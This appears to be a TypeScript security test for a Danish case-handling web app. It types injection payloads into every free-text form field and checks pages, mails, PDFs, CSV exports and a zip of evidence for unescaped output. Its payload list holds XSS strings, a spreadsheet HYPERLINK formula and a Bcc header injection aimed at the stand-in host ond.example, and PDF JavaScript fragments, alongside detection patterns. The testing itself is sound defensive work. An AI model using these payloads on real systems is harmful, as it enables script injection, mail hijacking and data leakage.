import { randomUUID } from 'node:crypto';
import { inflateSync } from 'node:zlib';
import { unzipSync } from 'fflate';
import { parse } from 'node-html-parser';
import { sectionFields } from '../../../infra/local/demo/typed-forms.ts';
import { SECTIONS } from '../../../shared/domain/agreement/sections.ts';
import {
  agreementNumber,
  fillInUnseen,
  invitationOf,
  type Journey,
  openCase,
  sign,
  signLinkOf,
} from '../../journey/people.ts';
import { steps } from '../../journey/steps.ts';
import { ask, newClient } from '../client.ts';
import { pathOf, type Target } from '../target.ts';
import { makeTally, type Tally, type TallyKeeper } from '../tally.ts';

const MARK = 'udefra7';

/** Each becomes an element, an attribute, a header or a formula where it is written without care. */
const PAYLOADS = [
  `"><img src=x id=${MARK} onerror=alert(1)></textarea><script id=${MARK}>1</script>`,
  `=HYPERLINK("http://ond.example/${MARK}") ' autofocus onfocus=${MARK} x='`,
  `+${MARK} \r\nBcc: tyv@ond.example\r\n\r\n<b id=${MARK}>`,
  `/JS (${MARK}) >> /OpenAction << /S /JavaScript <svg/onload=${MARK}>`,
] as const;

/** Fields that take free text, by the step they stand in; the rest are picked, numbers or dates. */
const FREE = /name|street|city|title|tasks\.\d|text|responsible|lookAt|support|other|holiday|notice/i;

/** The long ones among them, which take nearly anything. */
const LONG = /text|lookAt|support|other|tasks\.\d/i;

/** Whether a page has an element or an attribute that somebody typed. */
const typedInto = (html: string): boolean => {
  const root = parse(html);
  const elements = root.querySelectorAll('*');
  return elements.some(
    (element) =>
      element.id === MARK ||
      Object.entries(element.attributes).some(
        ([name, value]) =>
          /^on/i.test(name) ||
          (/^(?:href|src|action)$/.test(name) && /^\s*(?:javascript:|data:text)/i.test(value)),
      ),
  );
};

const FORMULA_CELL = /(?:^|[;\t\n])"?[=+@-](?!\d)[^;\n]*udefra7/;
const PDF_ACTIVE = /\/(?:JavaScript|JS|OpenAction|AA|Launch|URI|SubmitForm)\b(?!\))/;

/** What a PDF says beside its texts: its objects without what stands in strings and streams of text. */
const structureOf = (bytes: Buffer): string => {
  const file = bytes.toString('latin1');
  const inflated = [...file.matchAll(/\/Type\s*\/ObjStm[\s\S]*?stream\r?\n([\s\S]*?)endstream/g)].map(
    ([, packed = '']) => {
      try {
        return inflateSync(Buffer.from(packed, 'latin1')).toString('latin1');
      } catch {
        return '';
      }
    },
  );
  return [file.replaceAll(/stream\r?\n[\s\S]*?endstream/g, ''), ...inflated]
    .join('\n')
    .replaceAll(/\((?:\\.|[^\\)])*\)/g, '()');
};

/** Something harmful in every field of every form, looked for in every page, mail, document and file that shows it. */
export const typeScripts = async (target: Target): Promise<Tally> => {
  const tally = makeTally();
  for (const payload of PAYLOADS.slice(0, target.most)) await takeThrough(target, payload, tally);
  await mailsAreClean(target, tally);
  return tally.done();
};

const takeThrough = async (target: Target, payload: string, tally: TallyKeeper): Promise<void> => {
  const { desk, origin, post } = target;
  // A name that no form takes is tried and refused; the case then has a name that can be followed.
  const strange = await (await desk.open('/sager/ny')).submit(
    { employeeName: payload, caseNumber: payload, employeeEmail: payload },
    '/sager/ny',
  );
  tally.note(typedInto(strange.html), `the form of a new case: ${payload}`);
  const journey = await openCase(desk, {
    typed: { 'employeeAddress.address.street': payload, 'employeeAddress.address.city': payload },
  }).catch(() => openCase(desk));
  const place = { origin, post };
  const employerLink = await invitationOf(place, journey);
  await fillInUnseen(place, employerLink, journey);
  await typeIntoSteps(target, { ...journey, employerLink, payload }, tally);
  await sign(place, employerLink, journey.employer);
  const citizenLink = await signLinkOf(place, journey);
  for (const [page, form] of [
    ['underskriv', { name: payload, ownWords: payload }],
    ['bed-om-aendring', { comment: payload, commandId: randomUUID() }],
  ] as const) {
    const sent = await ask(origin, `${pathOf(citizenLink)}/${page}`, { form, from: newClient() });
    tally.note(typedInto(sent.text), `${page}: ${payload}`);
  }
  for (const path of [pathOf(employerLink), `${pathOf(employerLink)}/tjek-svar`, pathOf(citizenLink)])
    tally.note(
      typedInto((await ask(origin, path, { from: newClient() })).text),
      `${path.slice(0, 14)}: ${payload}`,
    );
  for (const path of [
    journey.casePath,
    `${journey.casePath}/ret-borger`,
    `${journey.casePath}/papir/udskriv`,
    `/sager?q=${encodeURIComponent(payload)}`,
  ])
    tally.note(
      typedInto((await desk.open(path)).html),
      `${path.replace(journey.casePath, 'the case')}: ${payload}`,
    );
  await filesAreClean(target, { ...journey, employerLink, payload }, tally);
};

/** Every free field of every step at once; what a form does not take is shown again, and the long texts are saved alone. */
const typeIntoSteps = async (
  { origin }: Target,
  { employerLink, start, payload }: Looked & Pick<Journey, 'start'>,
  tally: TallyKeeper,
): Promise<void> => {
  const fields = sectionFields(agreementNumber(2), start);
  for (const section of SECTIONS) {
    const path = `${pathOf(employerLink)}/udfyld/${steps[section]}`;
    const send = async (which: RegExp): Promise<number> => {
      const names = Object.keys(fields[section]).filter(
        (name) => which.test(name) && !name.endsWith('.kind'),
      );
      const form = {
        ...fields[section],
        ...Object.fromEntries(names.map((name) => [name, payload])),
        shownRev: await revOf(origin, path),
        commandId: randomUUID(),
        save: 'next',
      };
      const saved = await ask(origin, path, { form, from: newClient() });
      const shown = await ask(origin, path, { from: newClient() });
      for (const name of names) {
        tally.note(typedInto(saved.text), `${section}.${name} as it is shown again: ${payload}`);
        tally.note(typedInto(shown.text), `${section}.${name}: ${payload}`);
      }
      return saved.status;
    };
    await send(FREE);
    if ((await send(LONG)) !== 303) await send(/^$/);
  }
};

const revOf = async (origin: string, path: string): Promise<string> =>
  /name="shownRev" value="(\d+)"/.exec((await ask(origin, path, { from: newClient() })).text)?.[1] ?? '0';

type Looked = { readonly casePath: string; readonly employerLink: string; readonly payload: string };

const filesAreClean = async (
  { desk, origin }: Target,
  { casePath, employerLink, payload }: Looked,
  tally: TallyKeeper,
): Promise<void> => {
  const draft = await ask(origin, `${pathOf(employerLink)}/udkast.pdf`, { from: newClient() });
  tally.expectOpen(draft.bytes.subarray(0, 5).toString() === '%PDF-', `the draft is drawn: ${payload}`);
  tally.note(PDF_ACTIVE.test(structureOf(draft.bytes)), `the document: ${payload}`);
  for (const path of ['/tal.csv', '/tal.json']) {
    const text = await (await desk.fetch(path)).text();
    tally.note(FORMULA_CELL.test(text), `${path}: ${payload}`);
  }
  const zip = new Uint8Array(await (await desk.fetch(`${casePath}/bevis.zip`)).arrayBuffer());
  for (const [name, bytes] of Object.entries(unzipSync(zip))) {
    const text = Buffer.from(bytes).toString();
    const isHarmful = name.endsWith('.html')
      ? typedInto(text)
      : name.endsWith('.csv') && FORMULA_CELL.test(text);
    tally.note(
      isHarmful || name.includes('..') || name.startsWith('/'),
      `${name} of the evidence: ${payload}`,
    );
  }
};

const mailsAreClean = async ({ post, service }: Target, tally: TallyKeeper): Promise<void> => {
  await service.settle();
  for (const mail of await post.all()) {
    tally.note(typedInto(mail.html), `a mail: ${mail.subject}`);
    tally.note(
      mail.to.some((address) => address.includes('ond.example')),
      `a mail to ${mail.to.join(', ')}`,
    );
    tally.note(mail.subject.includes(MARK), `a subject: ${mail.subject}`);
  }
};
